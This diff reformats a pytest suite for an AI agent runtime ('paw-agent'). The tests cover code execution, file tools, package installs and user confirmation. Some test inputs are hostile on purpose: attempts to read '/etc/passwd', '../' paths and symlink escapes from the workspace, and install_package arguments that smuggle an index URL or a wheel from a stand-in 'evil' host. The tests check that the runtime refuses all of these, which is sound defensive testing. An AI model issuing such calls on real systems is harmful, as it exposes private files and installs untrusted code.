@@ -71,7 +71,8 @@ def test_average_tip_by_day_becomes_a_spreadsheet_and_a_chart(start, model, work
     assert code_repr.startswith("'import glob") and len(code_repr) <= 100
     assert notifies(lines, "tool_running") == ["run_python"]
     assert notifies(lines, "tool") == [
-        {"name": "run_python", "ok": True, "summary": "wrote chart.png, summary.xlsx"}]
+        {"name": "run_python", "ok": True, "summary": "wrote chart.png, summary.xlsx"}
+    ]
     assert result["usage"]["rounds"] == 2
     # The Python kernel lives on between runs, and dies with paw-agent.
     assert len(processes_with(runtime.marker)) >= 2
@@ -81,10 +82,12 @@ def test_average_tip_by_day_becomes_a_spreadsheet_and_a_chart(start, model, work
 
 
 def test_variables_persist_and_unsaved_figures_are_saved_as_png(start, model, workspace):
-    model.load(script(
-        call("run_python", code="import matplotlib.pyplot as plt\nx = 41\nplt.plot([1, 3, 2])"),
-        call("run_python", code="x + 1"),
-    ))
+    model.load(
+        script(
+            call("run_python", code="import matplotlib.pyplot as plt\nx = 41\nplt.plot([1, 3, 2])"),
+            call("run_python", code="x + 1"),
+        )
+    )
     runtime = start()
     runtime.ready()
     result = runtime.submit("plot", timeout=120)[-1]
@@ -105,12 +108,19 @@ def test_a_traceback_goes_back_to_the_model_and_the_session_survives(start, mode
     assert "kernel.py" not in failed
     assert survived == "5"
     assert notifies(lines, "tool")[0] == {
-        "name": "run_python", "ok": False, "summary": "ZeroDivisionError: division by zero"}
+        "name": "run_python",
+        "ok": False,
+        "summary": "ZeroDivisionError: division by zero",
+    }
 
 
 def test_run_python_time_limit_stops_the_code_and_the_run_goes_on(start, model):
-    model.load(script(call("run_python", code="import time\ntime.sleep(120)"),
-                      call("run_python", code="print('fresh')")))
+    model.load(
+        script(
+            call("run_python", code="import time\ntime.sleep(120)"),
+            call("run_python", code="print('fresh')"),
+        )
+    )
     runtime = start("paw-agent", "--tool-timeout", "1")
     runtime.ready()
     result = runtime.submit("sleep", timeout=60)[-1]
@@ -124,12 +134,14 @@ def test_files_are_listed_read_as_previews_and_written(start, model, workspace):
     shutil.copy(ROOT / "sample_data" / "tips.csv", workspace / "tips.csv")
     (workspace / "notes").mkdir()
     (workspace / "notes" / "todo.txt").write_text("check the tips\n")
-    model.load(script(
-        call("write_file", path="out/report.md", content="# Report\nok\n"),
-        call("list_files", path=".", recursive=True),
-        call("read_file", path="tips.csv"),
-        call("read_file", path="notes/todo.txt"),
-    ))
+    model.load(
+        script(
+            call("write_file", path="out/report.md", content="# Report\nok\n"),
+            call("list_files", path=".", recursive=True),
+            call("read_file", path="tips.csv"),
+            call("read_file", path="notes/todo.txt"),
+        )
+    )
     runtime = start()
     runtime.ready()
     runtime.submit("files", timeout=120)
@@ -137,8 +149,12 @@ def test_files_are_listed_read_as_previews_and_written(start, model, workspace):
     assert written == "wrote 12 bytes to out/report.md"
     assert (workspace / "out" / "report.md").read_text() == "# Report\nok\n"
     assert listing.splitlines() == [
-        "notes/", "out/", "tips.csv  (9.5 KB)", "notes/todo.txt  (15 bytes)",
-        "out/report.md  (12 bytes)"]
+        "notes/",
+        "out/",
+        "tips.csv  (9.5 KB)",
+        "notes/todo.txt  (15 bytes)",
+        "out/report.md  (12 bytes)",
+    ]
     assert preview.startswith("244 rows x 7 columns")
     assert "total_bill (float64)" in preview and "Sun" in preview
     assert text == "check the tips\n"
@@ -149,16 +165,18 @@ def test_paths_leaving_the_workspace_are_refused(start, model, workspace, tmp_pa
     outside.mkdir()
     (outside / "secret.txt").write_text("top secret")
     (workspace / "link").symlink_to(outside)
-    model.load(script(
-        call("read_file", path="../outside/secret.txt"),
-        call("read_file", path="/etc/passwd"),
-        call("read_file", path="link/secret.txt"),
-        call("write_file", path="../escape.txt", content="x"),
-        call("write_file", path="link/new.txt", content="x"),
-        call("list_files", path="/"),
-        call("delete_file", path="link/secret.txt"),
-        call("list_files", path=".", recursive=True),
-    ))
+    model.load(
+        script(
+            call("read_file", path="../outside/secret.txt"),
+            call("read_file", path="/etc/passwd"),
+            call("read_file", path="link/secret.txt"),
+            call("write_file", path="../escape.txt", content="x"),
+            call("write_file", path="link/new.txt", content="x"),
+            call("list_files", path="/"),
+            call("delete_file", path="link/secret.txt"),
+            call("list_files", path=".", recursive=True),
+        )
+    )
     runtime = start()
     runtime.ready()
     lines = runtime.submit("escape", timeout=60)
@@ -188,7 +206,8 @@ def test_a_declined_command_does_not_run(start, model, workspace):
     lines = runtime.run_lines("r1")
     assert tool_results(model) == ["declined by the user"]
     assert notifies(lines, "tool") == [
-        {"name": "shell", "ok": False, "summary": "declined by the user"}]
+        {"name": "shell", "ok": False, "summary": "declined by the user"}
+    ]
     assert not (workspace / "made.txt").exists()
 
 
@@ -261,8 +280,12 @@ def test_cancel_kills_running_python_and_its_children(start, model):
 
 
 def test_no_tool_process_outlives_a_killed_paw_agent(start, model):
-    model.load(script(call("run_python", code="import subprocess\nsubprocess.Popen(['sleep', '303'])"),
-                      call("shell", command="sleep 304")))
+    model.load(
+        script(
+            call("run_python", code="import subprocess\nsubprocess.Popen(['sleep', '303'])"),
+            call("shell", command="sleep 304"),
+        )
+    )
     runtime = start()
     runtime.ready()
     runtime.send({"op": "submit", "prompt": "sleep", "run_id": "r1"})
@@ -282,10 +305,10 @@ def make_wheel(folder: Path, name: str = "pawtestpkg", version: str = "0.1") -> 
     """A minimal pure-Python wheel (PEP 427) built by hand, so no index is needed."""
     files = {
         f"{name}/__init__.py": "VALUE = 'installed-ok'\n",
-        f"{name}-{version}.dist-info/METADATA":
-            f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
-        f"{name}-{version}.dist-info/WHEEL":
-            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+        f"{name}-{version}.dist-info/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
+        f"{name}-{version}.dist-info/WHEEL": (
+            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
+        ),
     }
     record = []
     for path, text in files.items():
@@ -301,21 +324,29 @@ def make_wheel(folder: Path, name: str = "pawtestpkg", version: str = "0.1") -> 
 
 
 @pytest.mark.parametrize("approve", [True, False], ids=["approved", "declined"])
-def test_install_package_into_the_private_folder_for_run_python(start, model, workspace,
-                                                                  approve):
+def test_install_package_into_the_private_folder_for_run_python(start, model, workspace, approve):
     make_wheel(workspace)
-    model.load(script(
-        call("install_package", package="pawtestpkg-0.1-py3-none-any.whl"),
-        call("run_python", code="import pawtestpkg\nprint(pawtestpkg.VALUE)"),
-    ))
+    model.load(
+        script(
+            call("install_package", package="pawtestpkg-0.1-py3-none-any.whl"),
+            call("run_python", code="import pawtestpkg\nprint(pawtestpkg.VALUE)"),
+        )
+    )
     runtime = start()
     runtime.ready()
     runtime.send({"op": "submit", "prompt": "install", "run_id": "r1"})
     ask = confirm_prompt(runtime)
-    assert ask["prompt"] == ("install_package: pip install --target .paw/site-packages "
-                             "pawtestpkg-0.1-py3-none-any.whl")
-    runtime.send({"op": "answer", "run_id": "r1", "answers": ["yes" if approve else "no"],
-                  "ask_id": ask["ask_id"]})
+    assert ask["prompt"] == (
+        "install_package: pip install --target .paw/site-packages pawtestpkg-0.1-py3-none-any.whl"
+    )
+    runtime.send(
+        {
+            "op": "answer",
+            "run_id": "r1",
+            "answers": ["yes" if approve else "no"],
+            "ask_id": ask["ask_id"],
+        }
+    )
     runtime.run_lines("r1", timeout=180)
     installed, imported = tool_results(model)
     target = workspace / ".paw" / "site-packages" / "pawtestpkg" / "__init__.py"
@@ -330,8 +361,12 @@ def test_install_package_into_the_private_folder_for_run_python(start, model, wo
 
 
 def test_install_package_refuses_options_and_urls(start, model):
-    model.load(script(call("install_package", package="--index-url http://evil/ x"),
-                      call("install_package", package="x @ https://evil/x.whl")))
+    model.load(
+        script(
+            call("install_package", package="--index-url http://evil/ x"),
+            call("install_package", package="x @ https://evil/x.whl"),
+        )
+    )
     runtime = start()
     runtime.ready()
     lines = runtime.submit("install", timeout=30)
@@ -345,8 +380,12 @@ def test_install_package_refuses_options_and_urls(start, model):
 
 
 def test_ask_user_question_and_its_answer_timeout(start, model):
-    model.load(script(call("ask_user", question="Which sheet?", options=["A", "B"]),
-                      call("ask_user", question="Anything else?")))
+    model.load(
+        script(
+            call("ask_user", question="Which sheet?", options=["A", "B"]),
+            call("ask_user", question="Anything else?"),
+        )
+    )
     runtime = start("paw-agent", "--answer-timeout", "1")
     runtime.ready()
     runtime.send({"op": "submit", "prompt": "ask", "run_id": "r1"})
